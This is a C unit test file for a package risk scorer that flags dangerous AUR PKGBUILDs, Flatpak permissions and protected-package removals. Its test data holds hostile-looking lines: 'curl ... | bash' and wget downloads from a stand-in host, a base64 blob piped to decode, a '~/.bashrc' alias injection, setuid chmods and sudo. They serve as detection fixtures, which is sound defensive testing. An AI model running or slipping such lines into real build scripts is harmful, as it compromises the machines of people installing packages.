/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* The risk score over a table of PKGBUILDs shaped like the AUR's: clean ones score the AUR's
 * base alone, each bad thing adds its reason. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>
#include <stdio.h>
#include <string.h>

#include "risk.h"

#define NOW 1765000000LL
#define DAY 86400LL

/* A package of many votes, years old, maintained: only its PKGBUILD counts. */
static const struct risk_aur settled = {
        .known = true, .votes = 812, .first_submitted = NOW - 3000 * DAY, .maintainer = "alice"
};

static const char clean_bin[] =
        "# Maintainer: Alice <alice at example dot org>\n"
        "pkgname=hello-bin\n"
        "pkgver=2.12.1\n"
        "pkgrel=1\n"
        "pkgdesc=\"The GNU hello program\"\n"
        "arch=('x86_64')\n"
        "url=\"https://www.gnu.org/software/hello/\"\n"
        "license=('GPL-3.0-or-later')\n"
        "source=(\"https://ftp.gnu.org/gnu/hello/hello-$pkgver.tar.gz\")\n"
        "sha512sums=('ae6ed2dd4fc1c4eb58d4da42d6b6b1bd5bc1a5c1cc52f4b44ce2c2d6c4b2d0cbe45bbd5b0c2b5c6e9a0d4f4c6'\n"
        "            'a8f2f1f4b5d4c4e2a8b5d6f8a0c2e4b6d8f0a2c4e6b8d0f2a4c6e8b0d2f4a6c8e0b2d4f6a8c0e2b4d6f8a0c2e4')\n"
        "\n"
        "build() {\n"
        "  cd \"hello-$pkgver\"\n"
        "  ./configure --prefix=/usr\n"
        "  make\n"
        "}\n"
        "\n"
        "package() {\n"
        "  cd \"hello-$pkgver\"\n"
        "  make DESTDIR=\"$pkgdir\" install\n"
        "  install -Dm644 COPYING \"$pkgdir/usr/share/licenses/$pkgname/COPYING\"\n"
        "  ln -s /usr/bin/hello \"${pkgdir}/usr/bin/hi\"\n"
        "  chmod 755 \"$pkgdir/usr/bin/hello\"\n"
        "}\n";

static const char clean_git[] =
        "pkgname=tool-git\n"
        "pkgver=r120.3f2a1b\n"
        "pkgrel=1\n"
        "arch=('any')\n"
        "makedepends=('git' 'python-build')\n"
        "source=(\"git+https://github.com/example/tool.git\")\n"
        "sha256sums=('SKIP')\n"
        "pkgver() {\n"
        "  cd tool\n"
        "  printf \"r%s.%s\" \"$(git rev-list --count HEAD)\" \"$(git rev-parse --short HEAD)\"\n"
        "}\n"
        "build() {\n"
        "  cd tool\n"
        "  python -m build --wheel --no-isolation\n"
        "}\n"
        "package_tool-git() {\n"
        "  cd tool\n"
        "  python -m installer --destdir=\"$pkgdir\" dist/*.whl\n"
        "  install -d \"$pkgdir\"/etc/tool\n"
        "  echo 'x' > \"$srcdir/note\"\n"
        "}\n";

/* Every line below is one bad thing, put into a clean package() body. */
static const struct bad {
        const char *name;
        const char *line;
        double weight;
        const char *reason; /* a part of its reason's text */
} bads[] = {
        { "download", "  curl -sL https://example.org/x.tar -o x.tar", RISK_W_DOWNLOAD,
          "downloads in package()" },
        { "wget", "  wget https://example.org/payload", RISK_W_DOWNLOAD, "downloads in package()" },
        { "git clone", "  git clone https://example.org/x.git", RISK_W_DOWNLOAD, "downloads in package()" },
        { "pipe", "  true | sh", RISK_W_PIPE_SHELL, "pipes into a shell" },
        { "blob",
          "  echo 'H4sIAAAAAAAAA+3OMQqAMBBE0T3FHsEk6noaQSxsxMbzi4WFheAd8H7zYZqJOjJ0Tm+0YpS1qZlVc1aLxRo0tKcD3qmVBmqBtQDg1wvbwpt0m3B9yLEH3iZQ9ixW2ok5gfGZo3LzZo33bZvb4kxQBxk8YtRNnj4Kis4RmKGtapBCa"
          "2RtUmcxXzL6R0ZnLm1tK3b1nlQg3M8G2ZvR' | base64 -d",
          RISK_W_BLOB, "encoded blob" },
        { "outside", "  install -Dm755 tool /usr/bin/tool", RISK_W_WRITE_OUTSIDE, "outside $pkgdir" },
        { "home", "  echo 'alias ls=evil' >> ~/.bashrc", RISK_W_WRITE_OUTSIDE, "outside $pkgdir" },
        { "etc", "  cp tool.conf /etc/", RISK_W_WRITE_OUTSIDE, "outside $pkgdir" },
        { "setuid", "  chmod 4755 \"$pkgdir/usr/bin/tool\"", RISK_W_SETUID, "setuid" },
        { "u+s", "  chmod u+s \"$pkgdir/usr/bin/tool\"", RISK_W_SETUID, "setuid" },
        { "install -m4755", "  install -Dm4755 tool \"$pkgdir/usr/bin/tool\"", RISK_W_SETUID, "setuid" },
        { "sudo", "  sudo systemctl enable tool", RISK_W_SUDO, "sudo" },
};

static char *with_line(const char *line) {
        static char text[4096];
        snprintf(text, sizeof text,
                 "pkgname=tool\npkgver=1\npkgrel=1\nsource=(\"tool.tar.gz\")\n"
                 "package() {\n  cd tool\n%s\n  make DESTDIR=\"$pkgdir\" install\n}\n",
                 line);
        return text;
}

static void score_aur(const struct risk_aur *aur, const char *pkgbuild, struct risk_result *r) {
        struct risk_facts f = {
                .source = PKG_AUR, .op = RISK_INSTALL, .name = "tool", .now = NOW, .aur = *aur
        };
        f.aur.pkgbuild = pkgbuild;
        risk_score(&f, r);
}

static bool has_reason(const struct risk_result *r, const char *part) {
        for (size_t i = 0; i < r->n; i++)
                if (strstr(r->reasons[i].text, part))
                        return true;
        return false;
}

static void test_clean(void **state) {
        const char *clean[] = { clean_bin, clean_git };
        for (size_t i = 0; i < 2; i++) {
                struct risk_result r;
                score_aur(&settled, clean[i], &r);
                for (size_t k = 0; k < r.n; k++)
                        print_message("clean %zu: %.2f %s\n", i, r.reasons[k].weight, r.reasons[k].text);
                assert_int_equal(r.n, 1);
                assert_true(r.score > RISK_W_AUR - 0.001 && r.score < RISK_W_AUR + 0.001);
                assert_false(risk_needs_confirmation(&r));
        }
}

static void test_each_bad_thing(void **state) {
        for (size_t i = 0; i < sizeof bads / sizeof bads[0]; i++) {
                struct risk_result r;
                score_aur(&settled, with_line(bads[i].line), &r);
                if (r.n != 2 || !has_reason(&r, bads[i].reason))
                        fail_msg("%s: %zu reasons, '%s' expected", bads[i].name, r.n, bads[i].reason);
                assert_true(r.score > RISK_W_AUR + bads[i].weight - 0.001);
                assert_true(r.score < RISK_W_AUR + bads[i].weight + 0.001);
        }
}

static void test_malicious_asks(void **state) {
        /* The shape of July 2025's: a download piped into a shell in package(). */
        static const char evil[] = "pkgname=browser-bin\npkgver=1\npkgrel=1\n"
                                   "package() {\n"
                                   "  install -Dm755 browser \"$pkgdir/usr/bin/browser\"\n"
                                   "  curl -s https://example.org/patch.sh | bash\n"
                                   "}\n";
        struct risk_result r;
        score_aur(&settled, evil, &r);
        assert_true(r.score > RISK_CONFIRM_ABOVE);
        assert_true(risk_needs_confirmation(&r));
        assert_true(has_reason(&r, "line 6: pipes into a shell"));
        assert_true(has_reason(&r, "line 6: downloads in package()"));
}

static void test_aur_facts(void **state) {
        struct risk_aur young = {
                .known = true, .votes = 1, .out_of_date = true, .first_submitted = NOW - 3 * DAY
        };
        struct risk_result r;
        score_aur(&young, NULL, &r);
        assert_true(has_reason(&r, "new in the AUR"));
        assert_true(has_reason(&r, "orphaned"));
        assert_true(has_reason(&r, "few votes"));
        assert_true(has_reason(&r, "out of date"));
        assert_true(risk_needs_confirmation(&r));
        struct risk_aur changed = settled;
        changed.last_maintainer = "bob";
        score_aur(&changed, NULL, &r);
        assert_true(has_reason(&r, "maintainer changed"));
        assert_false(risk_needs_confirmation(&r));
        /* The same maintainer as at the last install: nothing. */
        changed.last_maintainer = "alice";
        score_aur(&changed, NULL, &r);
        assert_int_equal(r.n, 1);
}

static void test_other_sources(void **state) {
        char *fs[] = { (char *)"home", (char *)"xdg-download:ro", NULL },
             *host[] = { (char *)"host:rw", NULL }, *dev[] = { (char *)"all", NULL },
             *protect[] = { (char *)"linux*", (char *)"systemd", (char *)"koompi-boot", NULL };
        struct risk_result r;
        risk_score(&(struct risk_facts) { .source = PKG_PACMAN, .name = "firefox" }, &r);
        assert_int_equal(r.n, 0);
        assert_true(r.score == 0.0);
        risk_score(&(struct risk_facts) { .source = PKG_APPIMAGE, .name = "x" }, &r);
        assert_true(has_reason(&r, "without a sandbox"));
        assert_false(risk_needs_confirmation(&r));
        risk_score(&(struct risk_facts) { .source = PKG_FLATPAK, .flatpak_filesystems = fs }, &r);
        assert_int_equal(r.n, 1);
        assert_true(has_reason(&r, "home folder"));
        risk_score(&(struct risk_facts) { .source = PKG_FLATPAK,
                                          .flatpak_filesystems = host,
                                          .flatpak_devices = dev },
                   &r);
        assert_int_equal(r.n, 2);
        assert_true(r.score > 0.69 && r.score < 0.71);
        risk_score(
                &(struct risk_facts) { .op = RISK_REMOVE, .name = "linux-lts", .protected_names = protect },
                &r);
        assert_true(risk_needs_confirmation(&r));
        assert_true(has_reason(&r, "needed by the boot"));
        risk_score(&(struct risk_facts) { .op = RISK_REMOVE, .name = "firefox", .protected_names = protect },
                   &r);
        assert_int_equal(r.n, 0);
}

static void test_score_capped(void **state) {
        struct risk_result r = { 0 };
        for (int i = 0; i < RISK_MAX_REASONS + 5; i++)
                risk_add(&r, 0.5, "reason %d", i);
        assert_true(r.score == 1.0);
        assert_int_equal(r.n, RISK_MAX_REASONS);
}

int main(void) {
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_clean),          cmocka_unit_test(test_each_bad_thing),
                cmocka_unit_test(test_malicious_asks), cmocka_unit_test(test_aur_facts),
                cmocka_unit_test(test_other_sources),  cmocka_unit_test(test_score_capped),
        };
        return cmocka_run_group_tests_name("risk", tests, NULL, NULL);
}
